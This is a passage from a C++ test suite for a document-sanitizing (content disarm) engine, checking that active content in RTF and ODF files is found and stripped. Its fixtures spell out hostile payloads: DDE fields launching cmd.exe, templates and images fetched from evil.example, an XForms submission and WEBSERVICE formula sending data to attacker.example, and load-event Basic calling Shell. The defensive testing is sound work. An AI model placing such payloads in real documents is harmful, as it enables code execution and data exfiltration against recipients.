      {"{\\rtf1{x\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}{\\result SAFE11}}}", "rtf_object", {"0105", "Package", "object"}},
      {"{\\rtf1{\\field{\\*\\fldinst MACROBUTTON AutoOpen click}{\\fldrslt SAFE12}}}", "rtf_field", {"MACROBUTTON", "AutoOpen"}},
      {"{\\rtf1{\\field{\\*\\fldinst {\\*\\bkmkstart x}DDE{\\*\\bkmkend x}AUTO c:\\\\cmd.exe}{\\fldrslt SAFE13}}}", "dde_field", {"cmd.exe"}},
      {"{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/b.png}}}{\\shprslt SAFE14}}}", "", {"evil", "shpinst"}},
  };
  return cases;
}

TEST(CdrRtf, DestinationsAreFoundWhereverWordFindsThemAndOnlyKnownOnesAreWritten) {
  for (std::size_t i = 0; i < hostile_rtf().size(); ++i) {
    const RtfCase& c = hostile_rtf()[i];
    CdrResult r = run(c.rtf, "a.rtf");
    ASSERT_NE(r.verdict, Verdict::blocked) << c.rtf << ": " << r.message;
    if (*c.finding != '\0') EXPECT_TRUE(kinds(r).count(c.finding)) << c.rtf;
    for (const char* gone : c.gone) EXPECT_EQ(r.output.find(gone), std::string::npos) << c.rtf << " kept " << gone << ": " << r.output;
    EXPECT_NE(r.output.find("SAFE" + std::to_string(i + 1)), std::string::npos) << c.rtf << ": " << r.output;
    EXPECT_EQ(run(r.output, "a.rtf").verdict, Verdict::clean) << r.output;
  }
  // Harmless fields and web links are written anew; their results stay.
  CdrResult kept = run("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://city.example/\"}{\\fldrslt 市のページ}}{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}", "b.rtf");
  EXPECT_EQ(kept.verdict, Verdict::clean) << kept.output;
  EXPECT_NE(kept.output.find("HYPERLINK \"https://city.example/\""), std::string::npos) << kept.output;
  EXPECT_NE(kept.output.find("fldinst PAGE"), std::string::npos) << kept.output;
  CdrPolicy no_links;
  no_links.keep_hyperlinks = false;
  CdrResult text_only = run("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://city.example/\"}{\\fldrslt 市のページ}}}", "b.rtf", no_links);
  EXPECT_TRUE(kinds(text_only).count("hyperlink"));
  EXPECT_EQ(text_only.output.find("city.example"), std::string::npos);
  EXPECT_NE(text_only.output.find("市のページ"), std::string::npos);
}

// The fuzz targets' second reader (rtf_active_content) finds objects, templates, linked
// pictures and forbidden fields in hostile RTF, and nothing in what the engine wrote from it.
TEST(CdrRtf, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
  for (const char* raw : {"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd \"/c calc\"}{\\fldrslt x}}}",
                          "{\\rtf1{\\field{\\*\\fldinst \\'44DE c:\\\\\\\\windows\\\\\\\\cmd.exe}{\\fldrslt x}}}", "{\\rtf1{\\*\\template http://evil.example/t.dotm}}",
                          "{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}}}}",
                          "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\o \"tip\" \"file://attacker/share/x.lnk\"}{\\fldrslt x}}}",
                          // An object's kind words stray outside any \object group (found by cdr_rtf_fuzz).
                          "{\\rtf1{\\objocx x}{\\objemb y}\\objsub\\objpub\\objicemb\\objhtml z}",
                          // Control words spelled in capitals (found by cdr_rtf_fuzz).
                          "{\\rtf1{\\objecT{\\*\\objdata 0105}{\\result {\\pict\\bin2 {}}}}{\\OBJECT{\\*\\OBJDATA 0105}}}"}) {
    EXPECT_FALSE(internal::rtf_active_content(raw).empty()) << raw;
    CdrResult r = run(raw, "a.rtf");
    if (r.verdict != Verdict::blocked) {
      const auto left = internal::rtf_active_content(r.output);
      EXPECT_TRUE(left.empty()) << raw << " → " << r.output << ": " << left.front();
    }
  }
  for (const auto& c : hostile_rtf()) {
    CdrResult r = run(c.rtf, "a.rtf");
    ASSERT_NE(r.verdict, Verdict::blocked) << c.rtf;
    const auto left = internal::rtf_active_content(r.output);
    EXPECT_TRUE(left.empty()) << c.rtf << " → " << r.output << ": " << left.front();
  }
  EXPECT_TRUE(internal::rtf_active_content("{\\rtf1 pibName is a word; {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}").empty()) << "text and harmless fields are not findings";
  // A picture's raw \binN bytes are data, as the engine and Word read them (found by cdr_rtf_fuzz).
  EXPECT_TRUE(internal::rtf_active_content("{\\rtf1{\\pict\\bin2 *\\objdata 2357}}").empty());
  EXPECT_FALSE(internal::rtf_active_content("{\\rtf1{\\pict\\bin1 *\\objdata 2357}}").empty());
}

// LibreOffice, as a second reader, finds no field, object or link in what the engine wrote, and
// finds the text.
TEST(CdrRtf, LibreOfficeFindsNothingActiveInTheRebuiltRtf) {
  if (std::system("command -v soffice >/dev/null 2>&1") != 0) GTEST_SKIP() << "LibreOffice (soffice) is not installed";
  const fs::path dir = fs::temp_directory_path() / ("sanso-rtf-" + std::to_string(::getpid()));
  fs::create_directories(dir / "in");
  std::string args;
  for (std::size_t i = 0; i < hostile_rtf().size(); ++i) {
    CdrResult r = run(hostile_rtf()[i].rtf, "a.rtf");
    ASSERT_NE(r.verdict, Verdict::blocked);
    const fs::path in = dir / "in" / ("r" + std::to_string(i + 1) + ".rtf");
    std::ofstream(in, std::ios::binary) << r.output;
    args += " '" + in.string() + "'";
  }
  const std::string cmd = "soffice --headless --norestore -env:UserInstallation=file://" + (dir / "profile").string() + " --convert-to fodt --outdir '" +
                          (dir / "out").string() + "'" + args + " >/dev/null 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0);
  for (std::size_t i = 0; i < hostile_rtf().size(); ++i) {
    const std::string fodt = sanso::testing::read_file(dir / "out" / ("r" + std::to_string(i + 1) + ".fodt"));
    ASSERT_FALSE(fodt.empty()) << hostile_rtf()[i].rtf << " did not open in LibreOffice after rebuilding";
    EXPECT_NE(fodt.find("SAFE" + std::to_string(i + 1)), std::string::npos) << hostile_rtf()[i].rtf;
    for (const char* active : {"text:dde-connection", "draw:object", "evil.example", "cmd.exe", "text:execute-macro", "0105", "xlink:href=\"http"}) {
      EXPECT_EQ(fodt.find(active), std::string::npos) << hostile_rtf()[i].rtf << " → " << active;
    }
  }
  fs::remove_all(dir);
}

// An ODF text whose office, script, drawing and text namespaces are bound to other prefixes:
// inline Basic run by a load event, an OLE object, an execute-macro field. The rebuild matched
// "office:scripts" and "draw:object" by their usual spelling and passed all of it as clean.
std::string odt_with_prefixes() {
  const std::string content =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
      "<o:document-content xmlns:o=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
      " xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:d=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
      " xmlns:l=\"http://www.w3.org/1999/xlink\" o:version=\"1.3\">"
      "<o:scripts><o:script s:language=\"ooo:Basic\"><o:event-listeners><s:event-listener s:language=\"ooo:script\" s:event-name=\"dom:load\""
      " l:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\" l:type=\"simple\"/></o:event-listeners>"
      "</o:script></o:scripts>"
      "<o:body><o:text><t:p>SAFE text <t:execute-macro t:name=\"Standard.Module1.Main\">click</t:execute-macro></t:p>"
      "<t:p><d:frame><d:object-ole l:href=\"./Object 1\"/></d:frame></t:p></o:text></o:body></o:document-content>";
  const std::string manifest =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><m:manifest xmlns:m=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" m:version=\"1.3\">"
      "<m:file-entry m:full-path=\"/\" m:media-type=\"application/vnd.oasis.opendocument.text\"/>"
      "<m:file-entry m:full-path=\"content.xml\" m:media-type=\"text/xml\"/>"
      "<m:file-entry m:full-path=\"Basic/Standard/Module1.xml\" m:media-type=\"text/xml\"/></m:manifest>";
  internal::ZipWriter w;
  w.add("mimetype", "application/vnd.oasis.opendocument.text", false);
  w.add("META-INF/manifest.xml", manifest);
  w.add("content.xml", content);
  w.add("Basic/Standard/Module1.xml", "<script:module>Sub Main : Shell(\"calc\") : End Sub</script:module>");
  auto out = w.finish();
  return out ? *out : std::string();
}

// An ODF package whose parts are not what the manifest says, or that the manifest does not list:
// they were copied through byte for byte (only XML mentioning a few words was even read).
std::string odt_with_parts(const std::string& content, const std::vector<std::pair<std::string, std::string>>& extra, const std::string& extra_manifest) {
  const std::string manifest =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
      "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
      "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>" +
      extra_manifest + "</manifest:manifest>";
  internal::ZipWriter w;
  w.add("mimetype", "application/vnd.oasis.opendocument.text", false);
  w.add("META-INF/manifest.xml", manifest);
  w.add("content.xml", content);
  for (const auto& [name, bytes] : extra) w.add(name, bytes);
  auto out = w.finish();
  return out ? *out : std::string();
}

const char* kPlainOdtContent =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
    " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.3\"><office:body><office:text><text:p>本文</text:p>"
    "</office:text></office:body></office:document-content>";

TEST(CdrOdf, PartsAreKeptOnlyWhenTheManifestAccountsForThemAndTheyAreWhatItSays) {
  const std::string exe = "MZ\x90\x00\x03\x00\x00\x00 This program cannot be run in DOS mode";
  const std::string png = fixtures::rgb_png(4, 4, 10, 20, 30);
  CdrResult r = run(odt_with_parts(kPlainOdtContent,
                                   {{"Pictures/photo.png", png}, {"Pictures/evil.png", exe}, {"evil.exe", exe}, {"layout-cache", exe}},
                                   "<manifest:file-entry manifest:full-path=\"Pictures/photo.png\" manifest:media-type=\"image/png\"/>"
                                   "<manifest:file-entry manifest:full-path=\"Pictures/evil.png\" manifest:media-type=\"image/png\"/>"
                                   "<manifest:file-entry manifest:full-path=\"layout-cache\" manifest:media-type=\"application/binary\"/>"),
                    "報告.odt");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("part_type_mismatch"));
  EXPECT_TRUE(kinds(r).count("orphan_part"));
  EXPECT_TRUE(kinds(r).count("unsupported_part"));
  // A second reader: every member of the output is the manifest, mimetype, XML that parses, or a
  // PNG; the manifest lists exactly the parts there are.
  auto parts = fixtures::unzip(r.output);
  EXPECT_TRUE(parts.count("Pictures/photo.png"));
  for (const char* gone : {"Pictures/evil.png", "evil.exe", "layout-cache"}) EXPECT_FALSE(parts.count(gone)) << gone;
  for (const auto& [name, bytes] : parts) {
    EXPECT_EQ(bytes.find("This program cannot"), std::string::npos) << name;
    if (name == "mimetype") continue;
    if (name.size() > 4 && name.substr(name.size() - 4) == ".png") {
      EXPECT_EQ(bytes.substr(0, 8), std::string("\x89PNG\r\n\x1a\n", 8)) << name;
      continue;
    }
    pugi::xml_document doc;
    EXPECT_TRUE(doc.load_buffer(bytes.data(), bytes.size())) << name << " is not XML";
  }
  const std::string& manifest = parts["META-INF/manifest.xml"];
  EXPECT_NE(manifest.find("Pictures/photo.png"), std::string::npos);
  for (const char* gone : {"evil.png", "layout-cache"}) EXPECT_EQ(manifest.find(gone), std::string::npos) << gone;

  // A part declared as XML that is not XML blocks the file; a package without a manifest too.
  CdrResult torrent = run(odt_with_parts("d8:announce35:udp://tracker.example:1337/announce4:infod4:name5:a.exee", {}, ""), "報告.odt");
  EXPECT_EQ(torrent.verdict, Verdict::blocked);
  EXPECT_EQ(torrent.reason, "malformed");
  internal::ZipWriter w;
  w.add("mimetype", "application/vnd.oasis.opendocument.text", false);
  w.add("content.xml", kPlainOdtContent);
  auto bare = w.finish();
  ASSERT_TRUE(bare);
  CdrResult no_manifest = run(*bare, "報告.odt");
  EXPECT_EQ(no_manifest.verdict, Verdict::blocked);
  EXPECT_EQ(no_manifest.reason, "malformed");
}

TEST(CdrOdf, ScriptsObjectsAndMacroFieldsAreFoundByNamespaceNotPrefix) {
  CdrResult r = run(odt_with_prefixes(), "通知.odt");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("odf_script"));
  EXPECT_TRUE(kinds(r).count("odf_object"));
  EXPECT_TRUE(kinds(r).count("odf_macro"));
  auto parts = fixtures::unzip(r.output);
  ASSERT_TRUE(parts.count("content.xml"));
  for (const char* gone : {"Module1", "dom:load", "execute-macro", "object-ole", "o:scripts"}) {
    EXPECT_EQ(parts["content.xml"].find(gone), std::string::npos) << gone << " in " << parts["content.xml"];
  }
  EXPECT_NE(parts["content.xml"].find("SAFE text"), std::string::npos);
  EXPECT_FALSE(parts.count("Basic/Standard/Module1.xml"));
  EXPECT_EQ(parts["META-INF/manifest.xml"].find("Basic/"), std::string::npos) << "the manifest lists only what remains, whatever its prefix";
  EXPECT_EQ(run(r.output, "通知.odt").verdict, Verdict::clean);

  // LibreOffice, the second reader, imports no script, event, object or macro field from it.
  if (std::system("command -v soffice >/dev/null 2>&1") != 0) GTEST_SKIP() << "LibreOffice (soffice) is not installed";
  const fs::path dir = fs::temp_directory_path() / ("sanso-odf-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  std::ofstream(dir / "rebuilt.odt", std::ios::binary) << r.output;
  const std::string cmd = "soffice --headless --norestore -env:UserInstallation=file://" + (dir / "profile").string() + " --convert-to fodt --outdir '" +
                          (dir / "out").string() + "' '" + (dir / "rebuilt.odt").string() + "' >/dev/null 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0);
  const std::string fodt = sanso::testing::read_file(dir / "out" / "rebuilt.fodt");
  ASSERT_FALSE(fodt.empty());
  EXPECT_NE(fodt.find("SAFE text"), std::string::npos);
  for (const char* active : {"event-listener", "Module1", "dom:load", "execute-macro", "draw:object"}) EXPECT_EQ(fodt.find(active), std::string::npos) << active;
  fs::remove_all(dir);
}

// #21: ODF XML is written with only the namespaces ODF and LibreOffice define, each under its
// standard prefix. An XForms submission to a server, DOM event attributes, a vendor element
// carrying text, a prefix ("table") bound to the text namespace, and a prefix rebound to the
// script namespace on one element all passed before, since only a few known names were removed.
TEST(CdrOdf, OnlyOdfNamespacesSurviveUnderTheirStandardPrefixes) {
  const std::string content =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
      "<x:document-content xmlns:x=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
      " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:xf=\"http://www.w3.org/2002/xforms\""
      " xmlns:ev=\"http://www.w3.org/2001/xml-events\" xmlns:v=\"urn:vendor:active\" xmlns:q=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" x:version=\"1.3\">"
      "<x:body><x:text><xf:model><xf:submission xf:action=\"http://attacker.example/collect\" xf:method=\"post\"/></xf:model>"
      "<t:p ev:event=\"DOMActivate\" v:onload=\"run()\">SAFE text</t:p>"
      "<table:p>rebound paragraph</table:p>"
      "<t:p><t:span xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\">hidden script</t:span></t:p>"
      "<v:payload>vendor payload</v:payload>"
      "<t:p><t:variable-set t:name=\"n\" t:formula=\"q:=1+1\">2</t:variable-set></t:p>"
      "</x:text></x:body></x:document-content>";
  CdrResult r = run(odt_with_parts(content, {}, ""), "通知.odt");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("unknown_xml"));
  EXPECT_TRUE(kinds(r).count("odf_script"));
  // A second reader: every name in the rebuilt part resolves, through the root's declarations
  // only, to an ODF namespace under its standard prefix.
  const std::string out = fixtures::unzip(r.output)["content.xml"];
  pugi::xml_document doc;
  ASSERT_TRUE(doc.load_buffer(out.data(), out.size())) << out;
  const std::map<std::string, std::string> standard = {
      {"office", "urn:oasis:names:tc:opendocument:xmlns:office:1.0"}, {"text", "urn:oasis:names:tc:opendocument:xmlns:text:1.0"},
      {"of", "urn:oasis:names:tc:opendocument:xmlns:of:1.2"}, {"script", "urn:oasis:names:tc:opendocument:xmlns:script:1.0"},
      {"xml", "http://www.w3.org/XML/1998/namespace"}};
  std::map<std::string, std::string> declared{{"xml", "http://www.w3.org/XML/1998/namespace"}};
  for (pugi::xml_attribute a : doc.document_element().attributes()) {
    const std::string n = a.name();
    if (n.rfind("xmlns:", 0) == 0) declared[n.substr(6)] = a.value();
    EXPECT_NE(n, "xmlns") << "no default namespace";
  }
  for (const auto& [prefix, uri] : declared) {
    ASSERT_TRUE(standard.count(prefix)) << prefix << " = " << uri;
    EXPECT_EQ(standard.at(prefix), uri) << prefix;
  }
  for (pugi::xpath_node xn : doc.select_nodes("//*")) {
    const pugi::xml_node e = xn.node();
    const std::string name = e.name();
    ASSERT_NE(name.find(':'), std::string::npos) << name;
    EXPECT_TRUE(declared.count(name.substr(0, name.find(':')))) << name;
    for (pugi::xml_attribute a : e.attributes()) {
      const std::string an = a.name();
      if (e == doc.document_element() && an.rfind("xmlns:", 0) == 0) continue;
      EXPECT_EQ(an.rfind("xmlns", 0), std::string::npos) << "a declaration below the root: " << an;
      ASSERT_NE(an.find(':'), std::string::npos) << an;
      EXPECT_TRUE(declared.count(an.substr(0, an.find(':')))) << an;
    }
  }
  for (const char* gone : {"attacker", "submission", "DOMActivate", "run()", "vendor payload", "hidden script"}) EXPECT_EQ(out.find(gone), std::string::npos) << gone;
  EXPECT_TRUE(doc.select_node("//text:p[text()='rebound paragraph']")) << out;
  EXPECT_TRUE(doc.select_node("//text:p[text()='SAFE text']")) << out;
  EXPECT_TRUE(doc.select_node("//text:variable-set[@text:formula='of:=1+1']")) << "a formula's grammar prefix follows the rename: " << out;
  EXPECT_EQ(run(r.output, "通知.odt").verdict, Verdict::clean);
  EXPECT_TRUE(internal::package_active_content(r.output).empty());
}

// #21: formulas that reach outside the document — LibreOffice's WEBSERVICE and DDE functions, a
// reference into another file — lose the formula and keep the value last computed; an ordinary
// formula stays.
TEST(CdrOdf, FormulasThatReachOutsideGoAndTheirValuesStay) {
  const std::string content =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
      " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
      " xmlns:of=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" office:version=\"1.3\"><office:body><office:text><t:table t:name=\"T\"><t:table-row>"
      "<t:table-cell t:formula=\"of:=WEBSERVICE(&quot;http://attacker.example/?q=&quot;&amp;[.B1])\" office:value-type=\"string\"><text:p>cached1</text:p></t:table-cell>"
      "<t:table-cell t:formula=\"of:=dde (&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)\" office:value-type=\"string\"><text:p>cached2</text:p></t:table-cell>"
      "<t:table-cell t:formula=\"of:=['file:///C:/secret.ods'#$Sheet1.A1]\" office:value-type=\"float\" office:value=\"7\"><text:p>7</text:p></t:table-cell>"
      "<t:table-cell t:formula=\"of:=SUM([.A1:.A2])\" office:value-type=\"float\" office:value=\"3\"><text:p>3</text:p></t:table-cell>"
      "</t:table-row></t:table></office:text></office:body></office:document-content>";
  CdrResult r = run(odt_with_parts(content, {}, ""), "表.odt");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  std::size_t removed = 0;
  for (const auto& f : r.findings) removed += f.kind == FindingKind::kExternalFormula;
  EXPECT_EQ(removed, 3u);
  const std::string out = fixtures::unzip(r.output)["content.xml"];
  for (const char* gone : {"WEBSERVICE", "dde (", "secret.ods"}) EXPECT_EQ(out.find(gone), std::string::npos) << gone << ": " << out;
  for (const char* kept : {"cached1", "cached2", "of:=SUM([.A1:.A2])", "office:value=\"7\""}) EXPECT_NE(out.find(kept), std::string::npos) << kept << ": " << out;
  EXPECT_EQ(run(r.output, "表.odt").verdict, Verdict::clean);
  // The second reader sees the three in the input and none in the output.
  std::size_t seen = 0;
  for (const auto& f : internal::package_active_content(odt_with_parts(content, {}, ""))) seen += f.find(" formula ") != std::string::npos;
  EXPECT_EQ(seen, 3u);
  EXPECT_TRUE(internal::package_active_content(r.output).empty());
}

// The fuzz targets' second reader (package_active_content) sees the script, the macro library,
// the object and the macro field in the hostile ODF, and nothing in the rebuilt one.
TEST(CdrOdf, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
  const auto found = internal::package_active_content(odt_with_prefixes());
  std::string all;
  for (const auto& f : found) all += f + "\n";
  for (const char* want : {"Basic/Standard/Module1.xml", "<event-listener> script", "<execute-macro> script", "<object-ole> embedded object", "vnd.sun.star.script:"}) {
    EXPECT_NE(all.find(want), std::string::npos) << want << " not in\n" << all;
  }
  CdrResult r = run(odt_with_prefixes(), "通知.odt");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  const auto left = internal::package_active_content(r.output);
  EXPECT_TRUE(left.empty()) << left.front();
}

TEST(CdrResultFormat, EncodedResultsRoundTripAndTruncationIsAnError) {
  CdrResult r = run("a,=b\n", "x.csv");
  std::string encoded = encode_result(r);
  auto back = decode_result(encoded);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->output, r.output);
  EXPECT_EQ(back->findings.size(), r.findings.size());
  EXPECT_EQ(back->verdict, r.verdict);
  EXPECT_FALSE(decode_result(encoded.substr(0, encoded.size() - 1)).has_value());
  EXPECT_FALSE(decode_result("abc").has_value());
  EXPECT_EQ(label(FindingKind::kVbaMacro, "ja"), "VBA マクロ");
  EXPECT_EQ(label(FindingKind::kVbaMacro, "en"), "VBA macro project");
}

}  // namespace
}  // namespace sanso::cdr
